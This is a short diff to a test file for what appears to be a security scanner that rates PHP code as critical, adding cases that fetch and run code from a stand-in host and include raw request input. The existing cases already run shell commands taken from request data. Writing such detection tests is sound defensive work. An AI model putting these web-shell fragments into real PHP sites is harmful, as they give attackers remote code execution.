@@ -22,5 +22,9 @@ describe('a file that is written as released software is', () => {
     const sent = `$p = json_decode(file_get_contents('php://input'), true); exec("cd $d; {$p['c']} 2>&1");`;
     expect(severityOf(sent, -9)).toBe('critical');
     expect(severityOf(`${RUN}(${GET}['inert']);`, -9)).toBe('critical');
+    expect(severityOf(`${RUN}(wp_remote_retrieve_body(wp_remote_get('http://a.example.test/')));`, -9)).toBe(
+      'critical',
+    );
+    expect(severityOf(`include 'php://input';`, -9)).toBe('critical');
   });
 });
